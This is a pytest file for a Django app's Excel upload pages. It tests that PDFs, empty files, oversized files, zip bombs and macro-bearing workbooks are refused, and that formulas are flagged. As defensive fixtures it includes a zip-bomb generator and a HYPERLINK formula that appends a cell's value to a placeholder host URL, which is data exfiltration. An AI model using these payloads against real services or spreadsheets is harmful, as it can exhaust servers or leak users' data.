"""Uploads on every import page, end to end: a file that is not a workbook, is empty, too large, a zip bomb, holds
macros (under Excel's name for them or another) or formulas is refused with a Vietnamese reason, and nothing is
written: no record, and for a file refused as a whole no import batch either. A workbook with formulas is read far
enough to name each formula's row and column: its batch is kept as rejected, to show them, and cannot be confirmed.

The ledger's allocation page is also covered case by case in tests/disbursement/test_import.py, and the engine's
checks in tests/ethnic_portal/test_excel_import.py; here every page and kind gets every case. No API endpoint takes
a file (the contract has none): imports are pages only.
"""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from beneficiaries.excel.importers import IMPORTERS as PEOPLE_IMPORTERS
from beneficiaries.models import Household, HouseholdSupport, PrestigiousPerson, SupportActivity
from beneficiaries.models import ImportBatch as PeopleBatch
from disbursement.excel.importer import IMPORTERS as LEDGER_IMPORTERS
from disbursement.models import Allocation, Disbursement
from disbursement.models import ImportBatch as LedgerBatch
from ethnic_portal.excel_import import MAX_BYTES, MAX_UNCOMPRESSED

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
XLSM = "application/vnd.ms-excel.sheet.macroEnabled.12"

# (page, kind, importer): every kind of every import page.
PAGES = [("disbursement:import", kind, importer) for kind, importer in LEDGER_IMPORTERS.items()] + [
    ("beneficiaries:import", kind, importer) for kind, importer in PEOPLE_IMPORTERS.items()
]
WRITTEN = [Allocation, Disbursement, PrestigiousPerson, SupportActivity, Household, HouseholdSupport]


def template_workbook(importer, rows=()) -> bytes:
    """A workbook with the kind's own header row, as its template has it."""
    book = Workbook()
    book.active.append([column.header for column in importer.columns])
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rebuilt(content: bytes, *, add: dict[str, bytes] = (), content_types=None) -> bytes:
    """The same zip with members added and [Content_Types].xml rewritten by `content_types(text)`."""
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "[Content_Types].xml" and content_types:
                data = content_types(data.decode()).encode()
            target.writestr(info.filename, data)
        for name, data in dict(add).items():
            target.writestr(name, data)
    return buffer.getvalue()


def with_macros(content: bytes, part: str = "xl/vbaProject.bin") -> bytes:
    """An .xlsm as Excel saves one: the workbook declared macro-enabled and a VBA project part (any name: Excel
    finds it by its content type and relationship, not by its name)."""

    def declare(text: str) -> str:
        text = text.replace("sheet.main+xml", "sheet.macroEnabled.main+xml").replace(
            "spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml"
        )
        override = f'<Override PartName="/{part}" ContentType="application/vnd.ms-office.vbaProject"/>'
        return text.replace("</Types>", override + "</Types>")

    return rebuilt(content, add={part: b"\xd0\xcf\x11\xe0" + b"VBA" * 100}, content_types=declare)


def zip_bomb(content: bytes) -> bytes:
    """The workbook plus a member of zeros that unpacks past the limit from a few hundred KB."""
    buffer = io.BytesIO(content)
    with (
        zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/media/image1.bin", "w", force_zip64=True) as member,
    ):
        chunk = b"\0" * (1024 * 1024)
        for _ in range(MAX_UNCOMPRESSED // len(chunk) + 1):
            member.write(chunk)
    return buffer.getvalue()


NOT_EXCEL = "Tệp không phải Excel .xlsx (hãy lưu lại dưới dạng Excel Workbook .xlsx)."
MACROS = "Tệp có macro (VBA): hãy lưu lại dưới dạng .xlsx không có macro."
# case → (file name, content from the kind's template workbook, the refusal shown on the page)
REFUSED = {
    "a PDF": ("bao-cao.pdf", lambda book: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\n%%EOF\n", NOT_EXCEL),
    "a PDF renamed .xlsx": ("so-lieu.xlsx", lambda book: b"%PDF-1.4\n1 0 obj <<>> endobj\n%%EOF\n", NOT_EXCEL),
    "a text file renamed .xlsx": ("so-lieu.xlsx", lambda book: "Họ và tên;Năm sinh\nA;1960\n".encode(), NOT_EXCEL),
    "an empty file": ("so-lieu.xlsx", lambda book: b"", "Tệp rỗng."),
    "a file over the limit": (
        "so-lieu.xlsx",
        lambda book: book + b"\0" * (MAX_BYTES + 1 - len(book)),
        "Tệp lớn hơn 5 MB.",
    ),
    "a zip bomb": ("so-lieu.xlsx", zip_bomb, "Tệp giải nén ra quá lớn, không xử lý."),
    "an .xlsm with macros": ("so-lieu.xlsm", with_macros, MACROS),
    "macros renamed inside the file": ("so-lieu.xlsx", lambda book: with_macros(book, "xl/data1.bin"), MACROS),
}


def nothing_written() -> dict:
    return {model.__name__: model.objects.count() for model in [*WRITTEN, LedgerBatch, PeopleBatch]}


def post(client, page: str, kind: str, name: str, content: bytes, content_type=XLSX):
    return client.post(reverse(page), {"kind": kind, "file": SimpleUploadedFile(name, content, content_type)})


@pytest.mark.parametrize("case", list(REFUSED))
@pytest.mark.parametrize(
    ("page", "kind", "importer"), PAGES, ids=[f"{page.split(':')[0]}-{kind}" for page, kind, _ in PAGES]
)
def test_a_file_refused_as_a_whole_says_why_and_writes_nothing(client_as, district_user, page, kind, importer, case):
    name, make, message = REFUSED[case]
    content = make(template_workbook(importer))
    client = client_as(district_user)
    before = nothing_written()
    response = post(client, page, kind, name, content, XLSM if name.endswith(".xlsm") else XLSX)
    assert response.status_code == 200  # the form again, with the reason; not a 500, not a redirect to a batch
    assert response.context["form"].errors["file"] == [message]
    assert message in response.content.decode()
    assert nothing_written() == before


@pytest.mark.parametrize(
    ("page", "kind", "importer"), PAGES, ids=[f"{page.split(':')[0]}-{kind}" for page, kind, _ in PAGES]
)
def test_a_workbook_with_formulas_names_each_one_and_can_never_be_written(
    client_as, district_user, page, kind, importer
):
    columns = importer.columns
    formulas = ["=1+1", '=HYPERLINK("http://example.com/?x="&A2,"xem")', "=SUM(A2:A3)"]
    row = [formulas[i % len(formulas)] for i in range(len(columns))]
    client = client_as(district_user)
    before = nothing_written()
    response = post(client, page, kind, "so-lieu.xlsx", template_workbook(importer, [row]))
    assert response.status_code == 302
    batch_model = LedgerBatch if page.startswith("disbursement") else PeopleBatch
    batch = batch_model.objects.get()
    assert batch.status == "rejected"
    refused = {(e["row"], e["column"]) for e in batch.result["errors"] if "công thức" in e["message"]}
    assert refused == {(2, column.header) for column in columns}  # every formula, by row and column
    page_text = client.get(response["Location"]).content.decode()
    assert page_text.count("Không chấp nhận công thức; hãy dán giá trị") >= len(columns)  # shown on the batch page
    confirm = client.post(reverse(page.replace(":import", ":import_confirm"), args=[batch.pk]), follow=True)
    assert "Tệp này không ở trạng thái chờ ghi." in confirm.content.decode()
    records = [model.__name__ for model in WRITTEN]
    assert [nothing_written()[name] for name in records] == [before[name] for name in records]
    batch.refresh_from_db()
    assert batch.status == "rejected"
